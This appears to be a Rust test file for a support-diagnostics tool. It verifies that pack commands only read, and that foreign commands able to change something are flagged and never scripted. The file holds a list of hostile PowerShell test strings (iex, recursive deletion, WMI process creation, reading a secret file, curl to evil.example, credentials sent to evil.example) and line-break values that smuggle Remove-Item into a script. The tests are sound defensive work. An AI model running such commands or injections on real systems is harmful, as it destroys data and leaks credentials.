//! What customers are asked to run: commands of packs, the program's own grammar, and the second opinion of a
//! maintained parser.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use shindan_model::command::{ReadOnly, read_only};

use crate::program::{folder, run};

/// Nodes of a maintained grammar that a command which only reads may have. What calls methods or functions,
/// assigns, redirects, has a block of its own or puts one text into another is not among them.
const NODES: [&str; 50] = [
    "program",
    "statement_list",
    "pipeline",
    "pipeline_chain",
    "command",
    "command_name",
    "command_elements",
    "command_argument_sep",
    "command_parameter",
    "array_literal_expression",
    "unary_expression",
    "string_literal",
    "verbatim_string_characters",
    "integer_literal",
    "decimal_integer_literal",
    "variable",
    "parenthesized_expression",
    "script_block_expression",
    "script_block",
    "script_block_body",
    "logical_expression",
    "bitwise_expression",
    "comparison_expression",
    "comparison_operator",
    "additive_expression",
    "multiplicative_expression",
    "format_expression",
    "range_expression",
    "member_access",
    "member_name",
    "simple_name",
    "hash_literal_expression",
    "hash_literal_body",
    "hash_entry",
    "key_expression",
    "generic_token",
    "empty_statement",
    "|",
    ";",
    ",",
    "(",
    ")",
    "{",
    "}",
    "=",
    "@{",
    ".",
    " ",
    "$_",
    "-",
];

const OPERATORS: [&str; 12] = [
    "-eq",
    "-ne",
    "-gt",
    "-ge",
    "-lt",
    "-le",
    "-like",
    "-notlike",
    "-match",
    "-notmatch",
    "-contains",
    "-notcontains",
];

fn parser() -> tree_sitter::Parser {
    let mut parser = tree_sitter::Parser::new();
    parser.set_language(&tree_sitter_powershell::LANGUAGE.into()).unwrap();
    parser
}

/// Every node of a text, with the text of commands' names.
fn nodes(text: &str) -> (bool, BTreeSet<String>, Vec<String>) {
    let tree = parser().parse(text, None).unwrap();
    let (mut kinds, mut names) = (BTreeSet::new(), Vec::new());
    let mut open = vec![tree.root_node()];
    while let Some(node) = open.pop() {
        kinds.insert(node.kind().to_owned());
        if node.kind() == "command_name" {
            names.push(text[node.byte_range()].to_owned());
        }
        open.extend(
            (0..node.child_count()).filter_map(|at| node.child(u32::try_from(at).unwrap())),
        );
    }
    (tree.root_node().has_error(), kinds, names)
}

/// The commands of the steps below a folder.
fn commands(folder: &str) -> Vec<String> {
    let mut found = Vec::new();
    for file in crate::repository::files(&Path::new(env!("CARGO_MANIFEST_DIR")).join(folder)) {
        if file.extension().is_none_or(|ending| ending != "toml") {
            continue;
        }
        let table: toml::Table = toml::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
        let steps = table.get("step").and_then(toml::Value::as_table);
        for step in steps.into_iter().flat_map(|steps| steps.values()) {
            found.extend(step.get("command").and_then(|text| text.as_str()).map(str::to_owned));
        }
    }
    assert!(!found.is_empty(), "{folder}");
    found
}

/// What a script may run is, to a maintained parser too, commands of the list and nothing besides.
#[test]
fn a_maintained_parser_sees_nothing_else_in_what_is_run() {
    let table: toml::Table =
        toml::from_str(include_str!("../../crates/model/src/command/commands.toml")).unwrap();
    let mut all: Vec<String> = table["script"].as_table().unwrap().keys().cloned().collect();
    all.extend(commands("rules").into_iter().chain(commands("tests/packs")));
    let mut run = 0;
    for command in &all {
        let Ok(ReadOnly::Script(pipelines)) = read_only(command) else { continue };
        for pipeline in pipelines {
            let printed = pipeline.to_string();
            let (has_error, kinds, names) = nodes(&printed);
            assert!(!has_error, "{printed}");
            // Operators of comparisons are nodes of their own.
            let is_known = |kind: &&String| {
                NODES.contains(&kind.as_str()) || OPERATORS.contains(&kind.as_str())
            };
            let other: Vec<&String> = kinds.iter().filter(|kind| !is_known(kind)).collect();
            assert!(other.is_empty(), "{printed}: {other:?}");
            for name in names {
                let known = ["Where-Object", "Select-Object", "Get-Credential"];
                let verb = name.split('-').next().unwrap();
                let reads = ["Get", "Test", "Resolve"].contains(&verb) && name != "Get-Content";
                assert!(reads || known.contains(&name.as_str()), "{printed}: {name}");
            }
            run += 1;
        }
    }
    assert!(run > 40, "{run}");
}

/// Every command of the packs in the repository is known to only read, and those that scripts ran before the
/// grammar was there are run.
#[test]
fn commands_of_the_packs_are_known_and_run() {
    let (mut scripted, mut shown) = (Vec::new(), Vec::new());
    for command in commands("rules").into_iter().chain(commands("tests/packs")) {
        match read_only(&command) {
            Ok(ReadOnly::Script(_)) => scripted.push(command),
            Ok(ReadOnly::Shown) => shown.push(command),
            Err(why) => panic!("{command}: {why}"),
        }
    }
    for before in [
        "Test-MigrationServerAvailability -ExchangeRemoteMove",
        "Test-MigrationServerAvailability -ExchangeOutlookAnywhere -Auto",
        "Test-MigrationServerAvailability -ExchangeOutlookAnywhere -Exch",
        "Test-MigrationServerAvailability -Imap",
        "Get-MigrationEndpoint",
        "Get-OutlookAnywhere",
        "Get-WebServicesVirtualDirectory",
        "Get-WinEvent",
        "Get-WebHandler",
        "Get-ADComputer",
        "Test-ServiceHealth",
        "Get-ExchangeServer",
        "Get-CASMailbox",
        "Get-MailboxPermission",
        "Get-MailboxDatabase",
        "Get-RoleGroupMember",
        "Get-Mailbox -Identity",
        "Get-Service",
        "Get-AuthConfig",
    ] {
        assert!(scripted.iter().any(|command| command.starts_with(before)), "{before}");
    }
    let programs = ["nslookup", "netstat", "openssl", "Get-ExchangeCertificate"];
    for command in shown {
        assert!(programs.iter().any(|program| command.starts_with(program)), "{command}");
    }
}

/// Commands of a foreign pack that change something.
const HOSTILE: [&str; 12] = [
    "Get-Mailbox | rm -Recurse",
    "Get-Mailbox | iex",
    "(Get-WmiObject Win32_Process).Create('calc')",
    "Get-Mailbox | Where-Object {$_.Delete()}",
    "Get-Mailbox; Remove-Item x",
    "Get-Mailbox | Select-Object @{Name='a';Expression={Remove-Item x}}",
    "Get-Mailbox -OutVariable x",
    "Get-Content C:\\\\secret.txt",
    "Get-Mailbox > x",
    "Remove-Mailbox x",
    "Test-MigrationServerAvailability -Imap -RemoteServer evil.example -Credentials (Get-Credential)",
    "curl evil.example",
];

/// A copy of the small pack in which the step of the bulb has this command.
fn pack_with(command: &str, place: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for file in shindan_testing::files() {
        let path = dir.path().join(&file.path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let text = file.text.replace("ping lamp.test", command).replace("On the ladder", place);
        fs::write(path, text).unwrap();
    }
    dir
}

/// No command of a foreign pack that may change something is run by a script, and each is told from the others
/// wherever it is shown, in both languages and every format.
/// Makes the case `a.case.jsonl` of a table lamp that is dark.
fn dark_lamp(dir: &Path, pack: &str) {
    let set = ["--set", "lamp.type=table", "--set", "lamp.light=dark", "--pack", pack];
    run(dir, &[&["diagnose", "a.case.jsonl", "--no-input"][..], &set].concat(), b"");
}

#[test]
fn what_may_change_something_says_so_wherever_it_is_shown() {
    let said = [
        ("en", "this command may change something"),
        ("ja", "このコマンドは設定などを変更する可能性があります"),
    ];
    let commands: [&[&str]; 8] = [
        &["report", "a.case.jsonl", "--format", "text"],
        &["report", "a.case.jsonl", "--format", "md"],
        &["report", "a.case.jsonl", "--format", "html"],
        &["request", "a.case.jsonl", "--format", "text"],
        &["request", "a.case.jsonl", "--format", "html"],
        &["next", "a.case.jsonl"],
        &["handover", "a.case.jsonl"],
        &["kb", "docs"],
    ];
    for command in HOSTILE {
        let dir = folder();
        let pack = pack_with(command, "On the ladder");
        let pack = pack.path().to_str().unwrap();
        dark_lamp(dir.path(), pack);
        let script = run(dir.path(), &["request", "a.case.jsonl", "--script", "--pack", pack], b"");
        assert!(!script.stdout.contains("$results"), "{command}: {}", script.shown());
        for (lang, sentence) in said {
            let mut shown = 0;
            for words in commands {
                let with = ["--pack", pack, "--lang", lang];
                let out = run(dir.path(), &[words, &with].concat(), b"");
                let text: String = out.stdout.split_whitespace().collect();
                let plain =
                    out.stdout.replace("&gt;", ">").replace("&#x27;", "'").replace("&lt;", "<");
                let holds = plain.contains(&command.replace("\\\\", "\\"));
                if holds && out.status == 0 {
                    shown += 1;
                    let sentence: String = sentence.split_whitespace().collect();
                    assert!(text.contains(&sentence), "{words:?}\n{}", out.shown());
                }
            }
            assert!(shown >= 4, "{command}: {shown}");
        }
    }
}

/// A line break in a place's name cannot leave its comment.
#[test]
fn a_place_with_a_line_break_makes_no_script() {
    for (written, breaks) in [
        ("Lad\\nRemove-Item x", "\n"),
        ("Lad\\rRemove-Item x", "\r"),
        ("Lad\\u2028Remove-Item x", "\u{2028}"),
    ] {
        let dir = folder();
        let pack = pack_with("Get-Service 'lamp'", written);
        let pack = pack.path().to_str().unwrap();
        dark_lamp(dir.path(), pack);
        let script = run(dir.path(), &["request", "a.case.jsonl", "--script", "--pack", pack], b"");
        assert!(!script.stdout.contains(&format!("{breaks}Remove-Item")), "{}", script.shown());
        assert_ne!(script.status, 0, "{}", script.shown());
    }
}
